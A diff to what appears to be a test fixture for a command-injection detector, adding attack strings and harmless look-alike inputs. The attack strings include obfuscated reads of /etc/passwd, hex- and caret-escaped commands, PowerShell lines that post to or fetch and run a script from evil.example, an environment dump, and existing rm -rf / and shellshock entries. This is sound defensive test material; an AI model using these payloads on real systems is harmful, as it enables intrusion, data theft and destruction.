@@ -32,6 +32,14 @@ ATTACKS = {
     "windows_net_user": "| net user",
     "shellshock_user_agent": "() { :; }; /bin/bash -c 'id'",
     "rm_rf": "a;rm -rf /",
+    "wildcard_command_path": ";/???/??t /???/p??s??",
+    "printf_hex_substitution": "$(printf '\\x69\\x64')",
+    "cmd_caret_escapes": "& w^h^o^a^m^i",
+    "powershell_invoke_webrequest": "; Invoke-WebRequest -Uri http://evil.example -Method POST",
+    "powershell_start_process": "& Start-Process calc.exe",
+    "powershell_subexpression": "$(Get-ChildItem env:)",
+    "powershell_iex_iwr": "; iex (iwr http://evil.example/p.ps1)",
+    "echo_redirected_to_file": ";echo${IFS}pwned>/tmp/x",
 }
 
 BENIGN = {
@@ -53,6 +61,14 @@ BENIGN = {
     "shell_snippet_pipe_head": "ls -la /var/log | head",
     "git_snippet_pipe_wc": "git log --oneline | wc -l",
     "install_script_snippet": "curl -fsSL https://get.example.com | sh",
+    "markdown_code_fence": "```python\nfor i in range(3):\n    print(i)\n```",
+    "markdown_fence_with_and_and": "```bash\n./configure && make && sudo make install\n```",
+    "markdown_inline_code_with_pipe": 'Use `grep -r "FIXME" lib/ | wc -l` to count them.',
+    "html_entities_in_product_text": "Copyright &copy; 2024 Example&trade; &amp; partners",
+    "markup_after_pipe_is_not_input_redirection": 'Docs | more <span class="badge">new</span>',
+    "snippet_after_prose": "would buy again git log --oneline | wc -l",
+    "docker_volume_after_prose": "then export X=1 docker run -p 8080:80 -v $(pwd):/app nginx",
+    "url_path_with_query_after_semicolon": "Call it; /api/items?id=1 returns 500",
 }
 
 
